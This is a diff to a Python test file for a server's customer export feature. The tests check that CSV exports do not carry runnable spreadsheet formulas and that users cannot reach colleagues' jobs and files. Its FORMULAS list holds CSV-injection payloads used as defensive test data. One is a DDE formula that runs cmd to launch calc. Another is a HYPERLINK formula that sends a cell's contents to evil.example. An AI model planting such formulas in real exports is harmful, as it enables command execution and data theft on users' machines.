@@ -14,7 +14,6 @@ from tests.server.pages import reader
 
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "@SUM(1)", "-2+3"]
 RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
-FETCHING = {"Strongroom-Reason-Code": "migration"}
 
 
 @pytest.fixture
@@ -43,7 +42,7 @@ def test_no_cell_of_an_export_for_programs_runs(alice: TestClient, serving: Serv
     body = {"passphrase": PASSPHRASE, "format": "csv", "fields": ["name", "company"], **WHY}
     done = worked(serving, alice.post("/v1/exports/customers", json=body))
     address = f"/v1/exports/customers/files/{done['result']['file']}"
-    check(cells_of(alice.get(address, headers=FETCHING).content))
+    check(cells_of(alice.post(address, json=WHY).content))
 
 
 @pytest.mark.usefixtures("planted")
@@ -58,7 +57,7 @@ def test_no_cell_of_an_export_by_a_page_runs(alice: TestClient, serving: Serving
         serving.at_work.runner.run_waiting()
     job = alice.get(f"/v1/jobs/{made.headers['location'].rpartition('/')[2]}").json()
     address = f"/v1/exports/customers/files/{job['result']['file']}"
-    check(cells_of(alice.get(address, headers=FETCHING).content))
+    check(cells_of(alice.post(address, json=WHY).content))
 
 
 def test_a_colleagues_job_and_file_are_like_those_that_are_not_there(
@@ -75,9 +74,9 @@ def test_a_colleagues_job_and_file_are_like_those_that_are_not_there(
         answers = [
             ana.get(f"/v1/jobs/{job}"),
             ana.post(f"/v1/jobs/{job}/cancel"),
-            ana.get(f"/v1/exports/customers/files/{file}", headers=FETCHING),
+            ana.post(f"/v1/exports/customers/files/{file}", json=WHY),
         ]
         told.append([(each.status_code, each.json()["code"]) for each in answers])
     assert told[0] == told[1]
     assert {status for status, _ in told[0]} <= {403, 404}
-    assert alice.get(f"/v1/exports/customers/files/{done['result']['file']}", headers=FETCHING).content
+    assert alice.post(f"/v1/exports/customers/files/{done['result']['file']}", json=WHY).content
